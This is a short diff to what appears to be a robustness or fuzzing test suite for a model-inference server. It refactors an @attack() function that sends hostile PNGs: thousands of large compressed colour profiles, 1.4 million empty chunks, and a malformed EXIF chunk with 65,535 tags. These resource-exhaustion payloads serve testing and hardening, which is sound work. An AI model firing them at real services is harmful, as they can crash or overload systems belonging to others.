@@ -52,12 +52,6 @@ def large_ids_that_wait(target):
             future.cancel()
 
 
-def _png_with(chunks):
-    """Return a request with a PNG that has these chunks behind its head."""
-    plain = image_model.encoded(image_model.bright(200, 10))
-    return picture_request(plain[:33] + chunks + plain[33:])
-
-
 @attack()
 def hostile_pictures(target):
     """PNGs of 15,000 compressed colour profiles of 1 MB, of 1.4 million empty chunks, and of 65,535 broken tags."""
@@ -67,7 +61,8 @@ def hostile_pictures(target):
         image_model.png_chunk(b"aaAa", b"") * 1_400_000,
         image_model.png_chunk(b"eXIf", b"II*\0\x08\0\0\0" + struct.pack("<H", 65_535) + entries),
     )
-    send(target, "ModelInfer", *map(_png_with, chunks))
+    plain = image_model.encoded(image_model.bright(200, 10))
+    send(target, "ModelInfer", *(picture_request(plain[:33] + each + plain[33:]) for each in chunks))  # behind its head
 
 
 @attack()
